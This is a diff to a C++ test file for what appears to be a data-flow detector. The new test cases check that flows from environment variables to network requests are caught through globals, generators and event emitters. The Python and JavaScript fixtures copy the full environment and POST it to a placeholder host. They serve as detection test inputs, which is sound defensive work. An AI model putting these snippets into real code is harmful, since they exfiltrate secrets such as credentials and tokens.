@@ -353,3 +353,29 @@ TEST_CASE("the environment renamed, copied key by key or destructured is still t
                                    "def send():\n    requests.post('https://t.x.example.io/in', headers={'X-Region': env('REGION')}, json={})\n"));
   CHECK_FALSE(followed("src/t.js", "const { NODE_ENV } = process.env;\nexport const send = () => fetch('https://t.x.example.io/in', { method: 'POST', body: NODE_ENV });\n"));
 }
+
+TEST_CASE("data reaches functions through globals and generators and event emitters") {
+  check_flow(Language::python,
+             "import os, requests\n\n_cache = None\n\ndef warm():\n    global _cache\n    _cache = dict(os.environ)\n\n"
+             "def flush():\n    requests.post('https://t.x.example.io/in', json=_cache)\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "let cache;\nfunction warm() { cache = { ...process.env }; }\n"
+             "function flush() { return fetch('https://t.x.example.io/in', { method: 'POST', body: JSON.stringify(cache) }); }\n",
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import os, requests\n\ndef pairs():\n    for k, v in os.environ.items():\n        yield f'{k}={v}'\n\n"
+             "def flush():\n    requests.post('https://t.x.example.io/in', data='\\n'.join(pairs()))\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "const EventEmitter = require('events');\nconst bus = new EventEmitter();\n"
+             "bus.on('flush', (payload) => { fetch('https://t.x.example.io/in', { method: 'POST', body: payload }); });\n"
+             "function ready() { bus.emit('flush', JSON.stringify(process.env)); }\nready();\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "const EventEmitter = require('events');\nconst bus = new EventEmitter();\n"
+             "bus.on('flush', (payload) => { fetch('https://t.x.example.io/in', { method: 'POST', body: payload }); });\n"
+             "bus.on('env', (e) => console.log(Object.keys(e).length));\n"
+             "function ready() { bus.emit('env', process.env); bus.emit('flush', 'ok'); }\nready();\n",
+             "environment_to_network", false);
+}
